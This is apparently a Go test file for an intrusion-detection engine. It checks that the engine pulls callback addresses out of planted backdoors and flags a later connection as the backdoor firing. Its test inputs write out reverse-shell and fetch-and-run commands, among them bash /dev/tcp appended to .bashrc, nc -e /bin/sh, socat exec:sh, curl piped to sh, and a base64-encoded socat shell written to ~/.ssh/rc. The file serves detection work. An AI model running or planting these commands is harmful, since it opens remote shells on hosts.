package detect

import (
	"encoding/base64"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/auditchain/auditchain/parser"
)

// TestNamedPeers: the address forms a backdoor's command carries.
func TestNamedPeers(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		want []plantKey
	}{
		{"echo 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >> ~/.bashrc", []plantKey{{ip: "203.0.113.9", port: 4444}}},
		{"* * * * * nc 198.51.100.7 9001 -e /bin/sh", []plantKey{{ip: "198.51.100.7", port: 9001}}},
		{"socat tcp:198.51.100.7:8443 exec:sh", []plantKey{{ip: "198.51.100.7", port: 8443}}},
		{"curl -s http://192.0.2.4/b | sh", []plantKey{{ip: "192.0.2.4", port: 80}}},
		{"curl -s https://192.0.2.4:8443/b", []plantKey{{ip: "192.0.2.4", port: 8443}}},
		{"ping -c 1 192.0.2.4", nil},            // no port: no callback to match
		{"nc 0.0.0.0 4444", nil},                // unspecified is no peer
		{"echo 300.1.1.1:80", nil},              // not an address
		{"sleep 10; echo version 1.2.3.4", nil}, // a version, no port
		// a forward's target is where forwarded connections go
		{"ssh -N -R 127.0.0.1:18070:127.0.0.1:8070 u@192.0.2.4", nil},
		{"ssh -L 8080:10.0.0.5:80 jump", nil},
		// socat's address types end in a digit: UDP4: is no forward's port
		{"setsid -f socat UDP4:127.0.0.1:5300 SYSTEM:'echo ready; exec sh'", []plantKey{{ip: "127.0.0.1", port: 5300}}},
		{"socat TCP6:192.0.2.4:443 EXEC:sh", []plantKey{{ip: "192.0.2.4", port: 443}}},
	} {
		if got := namedPeers(c.cmd); !slices.Equal(got, c.want) {
			t.Errorf("namedPeers(%q) = %v, want %v", c.cmd, got, c.want)
		}
	}
}

// TestBackdoorCallback: a web shell appends a reverse shell to the web
// account's ~/.bashrc; later a login shell of that account connects to
// the named address: the backdoor fired, on stage 7, quoting the plant.
// The planting command's own connection and a connection to another
// address are not callbacks; the web shell reaching the same address is
// said as only that.
func TestBackdoorCallback(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	s.exec(10, 1, 33, "www-data", "/var/www/html", "/usr/sbin/php-fpm8.2", "php-fpm")
	plantCmd := "echo 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >> /var/www/.bashrc"
	fs := e.Observe(s.exec(20, 10, 33, "www-data", "/var/www/html", "/usr/bin/dash", "sh", "-c", plantCmd), s.tree)
	if f := has(fs, "web-server-exploitation"); f == nil || f.Stage != StagePersistence {
		t.Fatalf("plant: %v", ids(fs))
	}
	e.Observe(s.file(parser.KindFileWrite, 20, 10, 33, "/usr/bin/dash", "/var/www/.bashrc", true), s.tree)
	// the planting command's own connection is the reverse shell, not a callback
	if fs := e.Observe(s.connect(20, 10, 33, "/usr/bin/dash", "203.0.113.9", 4444), s.tree); has(fs, "backdoor-callback") != nil {
		t.Errorf("the planter's own connect is a callback: %v", ids(fs))
	}
	// the intruder runs the planted command again through the web shell:
	// the same address, but the plant did not start it
	s.exec(50, 10, 33, "www-data", "/var/www/html", "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
	fs = e.Observe(s.connect(50, 10, 33, "/usr/bin/bash", "203.0.113.9", 4444), s.tree)
	if f := has(fs, "backdoor-callback"); f == nil || f.Title != "Connection To An Address A Planted Backdoor Names" {
		t.Errorf("the address reached another way: %v", fs)
	}
	// a login shell of the account (a login's audit session), started by
	// sshd, reads the profile
	s.exec(30, 1, 0, "root", "/", "/usr/sbin/sshd", "sshd")
	login := s.exec(40, 30, 33, "www-data", "/var/www", "/usr/bin/bash", "-bash")
	login.Proc.AUID, login.Proc.SES = parser.NewID(33), parser.NewID(7)
	if fs := e.Observe(s.connect(40, 30, 33, "/usr/bin/bash", "203.0.113.7", 4444), s.tree); has(fs, "backdoor-callback") != nil {
		t.Errorf("another address is a callback: %v", ids(fs))
	}
	fs = e.Observe(s.connect(40, 30, 33, "/usr/bin/bash", "203.0.113.9", 4444), s.tree)
	f := has(fs, "backdoor-callback")
	if f == nil {
		t.Fatalf("no callback: %v", ids(fs))
	}
	if f.Title != "Planted Backdoor Calls Back" || f.Stage != StageCommandAndControl || f.Severity != SeverityHigh {
		t.Errorf("callback %q on %v at %v, want the backdoor firing, command-and-control, high", f.Title, f.Stage, f.Severity)
	}
	if len(f.Related) == 0 || f.Related[len(f.Related)-1].PID != 20 {
		t.Errorf("the plant is not quoted beside the callback: %v", f.Related)
	}
}

// TestPlantsBoundSaid: past plantedPeers addresses the oldest are
// forgotten, and the report is told so.
func TestPlantsBoundSaid(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	if d := e.Dropped(); d != nil {
		t.Fatalf("dropped before anything: %v", d)
	}
	p := &parser.Process{Key: parser.ProcKey{PID: 20}}
	for i := 0; i < plantedPeers+10; i++ {
		ev := &parser.Event{Kind: parser.KindExec, Args: []string{"sh", "-c", "echo 'bash -i >& /dev/tcp/198.51.100.7/" + strconv.Itoa(1000+i) + " 0>&1' >> ~/.bashrc"}}
		e.state.notePlant(&Finding{Stage: StagePersistence, Event: ev, Process: p})
	}
	d := e.Dropped()
	if len(d) != 1 || !strings.Contains(d[0], "10 addresses") {
		t.Errorf("dropped notes %q, want 10 addresses forgotten", d)
	}
}

// TestEncodedPlantNamesPeer: the plant's content goes through base64 on
// its way into the file (`echo <b64> | base64 -d > ~/.ssh/rc`): the
// writer is base64, the address is in its shell's command once decoded,
// and a later socat to it is the backdoor calling back (desk-attachname).
func TestEncodedPlantNamesPeer(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	s.exec(10, 1, 33, "www-data", "/var/www/html", "/usr/sbin/php-fpm8.2", "php-fpm")
	payload := base64.StdEncoding.EncodeToString([]byte("setsid -f socat UDP4:198.51.100.9:5300 SYSTEM:'exec sh'\n"))
	e.Observe(s.exec(20, 10, 33, "www-data", "/var/www/html", "/usr/bin/dash", "sh", "-c", "echo "+payload+" | base64 -d > /var/www/.ssh/rc"), s.tree)
	e.Observe(s.exec(21, 20, 33, "www-data", "/var/www/html", "/usr/bin/base64", "base64", "-d"), s.tree)
	fs := e.Observe(s.file(parser.KindFileWrite, 21, 20, 33, "/usr/bin/base64", "/var/www/.ssh/rc", true), s.tree)
	if f := has(fs, "web-persistence-file-write"); f == nil {
		t.Fatalf("the rc write: %v", ids(fs))
	}
	s.exec(30, 1, 0, "root", "/", "/usr/sbin/sshd", "sshd")
	// sshd runs ~/.ssh/rc in the account's login: the plant fired
	rc := s.exec(40, 30, 33, "www-data", "/var/www", "/usr/bin/socat", "socat", "UDP4:198.51.100.9:5300", "SYSTEM:exec sh")
	rc.Proc.AUID, rc.Proc.SES = parser.NewID(33), parser.NewID(9)
	fs = e.Observe(s.connect(40, 30, 33, "/usr/bin/socat", "198.51.100.9", 5300), s.tree)
	if f := has(fs, "backdoor-callback"); f == nil || f.Title != "Planted Backdoor Calls Back" {
		t.Errorf("the decoded plant's address is not called back by the fired plant: %v", fs)
	}
}
